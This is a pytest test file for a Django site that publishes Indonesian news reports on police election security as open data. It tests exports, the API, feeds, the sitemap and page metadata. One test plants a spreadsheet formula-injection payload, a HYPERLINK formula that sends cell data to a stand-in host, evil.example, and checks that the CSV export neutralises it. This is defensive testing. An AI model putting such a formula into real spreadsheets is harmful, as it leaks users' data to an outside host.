"""Open data: exports, API, feeds, sitemap and page metadata (docs/api.md)."""

import csv
import io
import json
import re

import feedparser
import hypothesis
import pytest
from django.db import OperationalError
from hypothesis import HealthCheck, given
from hypothesis import strategies as st
from openapi_spec_validator import validate

from reports.models import Article

KALTENG = "Jelang Pemungutan Suara Pilkada Serentak, Polda Kalteng Tingkatkan Pengamanan Kantor KPU"
COMBINATIONS = [
    "region=35",
    "region=62",
    "region=35.07&election=pilkada-2024",
    "q=imbauan",
    "q=pengamanan&sort=oldest",
    "unit=polda-jawa-timur&date_from=2024-01-01",
    "operation=operasi-mantap-praja-2024",
    "",
]


def html_titles(client, query: str) -> list[str]:
    response = client.get(f"/articles/?{query}")
    return [a.title for a in response.context["browse"].page.object_list]


def csv_rows(client, query: str) -> list[dict]:
    response = client.get(f"/articles.csv?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheets read it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def json_articles(client, query: str) -> list[dict]:
    response = client.get(f"/articles.json?{query}")
    assert response.status_code == 200
    return json.loads(b"".join(response.streaming_content))["articles"]


@pytest.mark.django_db
def test_the_csv_of_a_province_has_a_header_and_its_four_reports(client, seeded):
    rows = csv_rows(client, "region=35")
    assert len(rows) == 4
    assert {row["province"] for row in rows} == {"Jawa Timur"}
    jember = next(row for row in rows if row["regency"] == "Kabupaten Jember")
    assert jember["units"] == "Polres Jember"
    assert "Toha (Kompol, Kabag Ops Polres Jember)" in jember["people"]
    assert (jember["personnel_count"], jember["quote_count"]) == ("6", "3")


@pytest.mark.django_db
def test_the_json_of_kalimantan_tengah_is_exactly_its_report(client, seeded):
    articles = json_articles(client, "region=62")
    assert [a["title"] for a in articles] == [KALTENG]
    assert articles[0]["operations"] == [
        {"slug": "operasi-mantap-praja-telabang-2024", "name": "Operasi Mantap Praja Telabang 2024"}
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("query", COMBINATIONS)
def test_exports_match_the_html_list(client, seeded, query):
    titles = html_titles(client, query)
    assert [row["title"] for row in csv_rows(client, query)] == titles
    assert [a["title"] for a in json_articles(client, query)] == titles
    api = json.loads(client.get(f"/api/articles?{query}").content)
    assert [a["title"] for a in api["results"]] == titles


@pytest.mark.django_db
def test_exports_have_no_row_cap(client, seeded, settings):
    settings.ARTICLES_PER_PAGE = 2
    assert len(csv_rows(client, "")) == Article.objects.published().count() == 5


@pytest.mark.django_db
def test_exports_refuse_bad_parameters_with_400(client, seeded):
    assert client.get("/articles.csv?date_from=2024-13-45").status_code == 400
    response = client.get("/articles.json?unit=nope")
    assert response.status_code == 400
    assert "unit" in json.loads(response.content)["errors"]


@pytest.mark.django_db
def test_the_list_page_links_to_its_exports_and_feeds_with_its_filters(client, seeded):
    html = client.get("/articles/?region=35&q=pengamanan").content.decode()
    for path in ("/articles.csv", "/articles.json", "/feeds/articles.atom", "/feeds/articles.rss"):
        assert (
            f"{path}?region=35&amp;q=pengamanan" in html
            or f"{path}?q=pengamanan&amp;region=35" in html
        )


@pytest.mark.django_db
def test_an_entity_page_exports_its_own_articles(client, seeded):
    html = client.get("/regions/35.09/").content.decode()
    assert 'href="/articles.csv?region=35.09"' in html
    assert 'type="application/atom+xml"' in html and "/feeds/articles.atom?region=35.09" in html


# --- API ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_openapi_schema_validates(client):
    schema = json.loads(client.get("/api/openapi.json").content)
    validate(schema)
    assert schema["openapi"].startswith("3.")


ENDPOINTS = {
    "/api/articles": lambda d: d["count"] == 5 and len(d["results"]) == 5,
    "/api/articles?region=35&page=1": lambda d: d["count"] == 4 and d["previous"] is None,
    "/api/regions?level=province": lambda d: d["count"] == 38,
    "/api/articles/{kalteng}": lambda d: d["quotes"] and d["body"],
    "/api/regions/35.07": lambda d: d["name"] == "Kabupaten Malang" and d["articles"] == 3,
    "/api/units?level=polda": lambda d: d["count"] == 36,
    "/api/units/polres-jember": lambda d: d["region"] == "35.09" and d["articles"] == 1,
    "/api/operations": lambda d: len(d) == 3,
    "/api/operations/operasi-mantap-praja-telabang-2024": lambda d: (
        d["polda"] == "polda-kalimantan-tengah"
    ),
    "/api/people": lambda d: d["count"] == 8,
    "/api/people/toha": lambda d: d["positions"][0]["position"] == "Kabag Ops Polres Jember",
    "/api/outlets": lambda d: len(d) == 4,
    "/api/outlets/surabayapagi-com": lambda d: d["domain"] == "surabayapagi.com",
    "/api/elections": lambda d: {e["slug"] for e in d} == {"pemilu-2024", "pilkada-2024"},
    "/api/elections/pilkada-2024": lambda d: d["articles"] == 3,
}


@pytest.mark.django_db
def test_every_documented_endpoint_answers_as_documented(client, seeded):
    schema = json.loads(client.get("/api/openapi.json").content)
    documented = set(schema["paths"])

    def template(url: str) -> str:
        path = url.split("?")[0]
        for pattern, name in (("/articles/", "article_id"), ("/regions/", "code")):
            if path.startswith("/api" + pattern):
                return re.sub(r"/[^/]+$", "/{" + name + "}", path)
        return re.sub(r"^(/api/\w+)/[^/]+$", r"\1/{slug}", path)

    assert documented == {template(url) for url in ENDPOINTS}
    # Ids depend on the database (PostgreSQL's sequences outlive each test's rollback).
    kalteng = Article.objects.get(province__code="62").pk
    for url, check in ENDPOINTS.items():
        response = client.get(url.format(kalteng=kalteng))
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/json")
        assert check(json.loads(response.content)), url


@pytest.mark.django_db
def test_the_api_pages_with_links(client, seeded, monkeypatch):
    from reports import api

    monkeypatch.setattr(api, "PAGE_SIZE", 2)
    first = json.loads(client.get("/api/articles?region=35").content)
    assert (first["count"], first["pages"]) == (4, 2)
    assert first["next"].endswith("/api/articles?region=35&page=2")
    second = json.loads(client.get(first["next"].replace("http://testserver", "")).content)
    assert second["next"] is None and second["previous"].endswith("page=1")
    assert client.get("/api/articles?region=35&page=3").status_code == 404


@pytest.mark.django_db
def test_the_api_is_open_to_other_sites_for_get(client, seeded):
    response = client.get("/api/articles", headers={"origin": "https://monitor.example"})
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Origin" not in client.get(
        "/", headers={"origin": "https://monitor.example"}
    )


@pytest.mark.django_db
def test_drafts_never_leave_through_the_api_exports_or_feeds(client, seeded):
    Article.objects.filter(title=KALTENG).update(status=Article.Status.DRAFT)
    assert KALTENG not in [a["title"] for a in json_articles(client, "")]
    assert client.get(f"/api/articles/{Article.objects.get(title=KALTENG).pk}").status_code == 404
    assert KALTENG.encode() not in client.get("/feeds/articles.atom").content


# --- Feeds ----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["atom", "rss"])
def test_feeds_parse_and_take_the_list_parameters(client, seeded, kind):
    response = client.get(f"/feeds/articles.{kind}?region=35&election=pilkada-2024")
    feed = feedparser.parse(response.content)
    assert not feed.bozo, feed.bozo_exception
    assert feed.version == ("atom10" if kind == "atom" else "rss20")
    assert len(feed.entries) == 2
    assert "Jawa Timur" in feed.feed.title


# --- Sitemap, robots, metadata ------------------------------------------------------------


@pytest.mark.django_db
def test_the_sitemap_lists_every_published_article_and_entity_page(client, seeded):
    index = client.get("/sitemap.xml").content.decode()
    locs = []
    for section in re.findall(r"<loc>http://testserver(/sitemap-\w+\.xml)</loc>", index):
        locs += re.findall(
            r"<loc>http://testserver([^<]+)</loc>", client.get(section).content.decode()
        )
    for article in Article.objects.published():
        assert article.get_absolute_url() in locs
    for page in (
        "/regions/35/",
        "/regions/35.09/",
        "/units/polres-jember/",
        "/operations/operasi-mantap-praja-telabang-2024/",
        "/people/toha/",
        "/outlets/surabayapagi-com/",
        "/elections/pemilu-2024/",
        "/",
    ):
        assert page in locs, page


@pytest.mark.django_db
def test_robots_txt_points_to_the_sitemap(client):
    text = client.get("/robots.txt").content.decode()
    assert "Sitemap: http://testserver/sitemap.xml" in text


@pytest.mark.django_db
def test_an_article_page_carries_json_ld_open_graph_canonical_and_citations(client, seeded):
    article = Article.objects.get(title=KALTENG)
    html = client.get(article.get_absolute_url() + "?utm_source=x&page=2").content.decode()
    data = json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    )
    assert data["@type"] == "NewsArticle" and data["headline"] == KALTENG
    assert data["publisher"]["name"] == "palangkaraya.24jam.co.id"
    assert (
        f'<link rel="canonical" href="http://testserver{article.get_absolute_url()}?utm_source=x">'
        in html
    )
    assert '<meta property="og:type" content="article">' in html
    assert "@misc{polsec" in html and "url = {http://testserver" in html


@pytest.mark.django_db
def test_the_home_page_describes_the_dataset(client, seeded):
    html = client.get("/").content.decode()
    data = json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    )
    assert data["@type"] == "Dataset"
    assert {d["encodingFormat"] for d in data["distribution"]} == {"text/csv", "application/json"}


# --- The full dataset ----------------------------------------------------------------


@pytest.mark.django_db
def test_the_dataset_command_writes_every_public_table_a_dictionary_and_the_licence(
    client, seeded, tmp_path, settings
):
    import zipfile

    from django.core.management import call_command

    settings.DATASET_PATH = tmp_path / "polsec-dataset.zip"
    Article.objects.filter(title=KALTENG).update(status=Article.Status.DRAFT)
    call_command("export_dataset", stdout=io.StringIO())
    with zipfile.ZipFile(settings.DATASET_PATH) as archive:
        names = set(archive.namelist())
        assert {
            "articles.csv",
            "regions.csv",
            "police_units.csv",
            "people.csv",
            "quotes.csv",
            "DATA_DICTIONARY.md",
            "LICENSE-ODbL.md",
            "README.md",
        } <= names
        articles = list(csv.DictReader(io.TextIOWrapper(archive.open("articles.csv"), "utf-8")))
        assert len(articles) == 4 and KALTENG not in {a["title"] for a in articles}
        regions = archive.read("regions.csv").decode().splitlines()
        assert len(regions) == 1 + 7837
        assert "idn-area-data" in archive.read("README.md").decode()
    response = client.get("/data/polsec-dataset.zip")
    assert response.status_code == 200
    assert client.get("/data/").status_code == 200


# --- CSV cells that a spreadsheet would run (formula injection) ------------------------

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula(cell: str):
    """No cell starts with a formula character (the neutralised form starts with `'`)."""
    assert not cell.startswith(DANGEROUS_START), repr(cell)


@pytest.mark.django_db
def test_an_imported_hyperlink_formula_is_written_as_text_in_the_csv(client, seeded):
    article = Article.objects.published().get(title=KALTENG)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    Article.objects.filter(pk=article.pk).update(title=formula, author="@SUM(1+1)")
    [row] = csv_rows(client, "region=62")
    assert row["title"] == "'" + formula
    assert row["author"] == "'@SUM(1+1)"
    assert row["id"] == str(article.pk)  # numbers stay numbers
    [item] = json_articles(client, "region=62")
    assert item["title"] == formula  # JSON carries the text as it is


def _with_text(value, draw, text):
    """The record `value` with every string in it drawn anew."""
    if isinstance(value, str):
        return draw(text)
    if isinstance(value, dict):
        return {k: _with_text(v, draw, text) for k, v in value.items()}
    if isinstance(value, list):
        return [_with_text(v, draw, text) for v in value]
    return value


CELL_TEXT = st.one_of(
    st.text(),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from([*DANGEROUS_START, "'", " =", "'=", "=\n"]),
        st.text(),
    ),
)


@pytest.mark.django_db
@hypothesis.settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_no_csv_cell_of_any_text_starts_with_a_formula_character(seeded, data):
    from reports import exports

    article = exports.prepare(Article.objects.published()).get(title__startswith="Siagakan")
    template = exports.record(article, "https://arsip.example")
    items = [_with_text(template, data.draw, CELL_TEXT) for _ in range(2)]
    text = "".join(exports.csv_lines(items))
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == exports.CSV_COLUMNS
    for item, row in zip(items, rows[1:], strict=True):
        for column, cell, value in zip(
            exports.CSV_COLUMNS, row, exports.csv_row(item), strict=True
        ):
            assert_no_formula(cell)
            if isinstance(value, str) and not value.startswith(DANGEROUS_START):
                assert cell == value  # only the dangerous cells change
            if isinstance(value, int):
                assert cell == str(value), column


# --- An export cut short must look cut short --------------------------------------------


@pytest.fixture
def failing_after(monkeypatch):
    """Make the export's row iterator fail after `n` rows, as a database that goes
    away mid-stream does."""
    from reports import exports

    def fail_after(n: int):
        rows = exports.rows

        def broken(ordered):
            for i, article in enumerate(rows(ordered)):
                if i == n:
                    raise OperationalError("server closed the connection unexpectedly")
                yield article

        monkeypatch.setattr(exports, "rows", broken)

    return fail_after


@pytest.mark.django_db
def test_a_complete_json_export_ends_with_its_trailer(client, seeded):
    response = client.get("/articles.json")
    document = json.loads(b"".join(response.streaming_content))
    assert document["complete"] is True
    assert document["count"] == len(document["articles"]) == 5
    assert list(document)[-2:] == ["count", "complete"]  # written last


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["json", "csv"])
def test_an_export_cut_by_a_database_failure_breaks_the_stream(client, seeded, failing_after, kind):
    failing_after(2)
    response = client.get(f"/articles.{kind}")
    assert response.status_code == 200  # the head was sent before the failure
    received = []
    with pytest.raises(OperationalError):
        for chunk in response.streaming_content:
            received.append(chunk)
    text = b"".join(received).decode()
    assert '"complete"' not in text
    if kind == "csv":
        assert len(list(csv.reader(io.StringIO(text[1:])))) == 1 + 2
